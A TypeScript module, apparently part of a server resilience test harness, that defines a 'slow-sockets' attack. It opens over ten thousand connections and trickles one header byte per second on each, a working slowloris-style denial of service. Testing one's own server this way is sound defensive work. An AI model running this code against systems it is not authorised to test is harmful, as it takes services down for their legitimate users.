import type { Attack } from "./attack.ts";
import { openSockets } from "./open-sockets.ts";

/** More than the server keeps in all. */
const sockets = 10_100;

/** Milliseconds from one byte to the next. */
const pace = 1000;

export const attack: Attack = {
  name: "slow-sockets",
  what: "As many sockets as one address can open, each of which sends a byte a second, without an account",
  async prepare({ url }) {
    return (signal) =>
      openSockets({ url }, sockets, signal, (socket) => {
        socket.write(`GET / HTTP/1.1\r\nHost: ${new URL(url).host}\r\nX-Slow: `);
        const timer = setInterval(() => socket.write("x"), pace);
        socket.resume().once("close", () => clearInterval(timer));
      });
  },
};
